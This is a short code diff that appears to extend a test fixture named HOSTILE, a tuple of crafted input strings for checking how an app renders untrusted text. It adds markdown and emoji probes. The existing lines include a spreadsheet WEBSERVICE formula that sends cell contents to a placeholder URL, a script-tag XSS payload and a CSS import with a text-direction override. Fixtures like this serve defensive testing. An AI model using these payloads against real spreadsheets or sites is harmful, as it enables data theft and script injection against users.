@@ -21,6 +21,8 @@ HOSTILE = (
     '=WEBSERVICE("{url}/xlsx?d="&A1) =HYPERLINK("{url}/xlsx","{marker}13")',
     '"><script>alert(14)</script>{marker}14',
     "\u202e{marker}15\r\n<style>@import '{url}/style.css';</style>",
+    "{marker}16 xxgk@example.gov.cn mailto:a@b.cn :material/home: :streamlit: :smile: :+1: :red[{marker}16]",
+    "2025. {marker}17\n---\n1) 李四\n+ 王五\n===",
 )
 
 
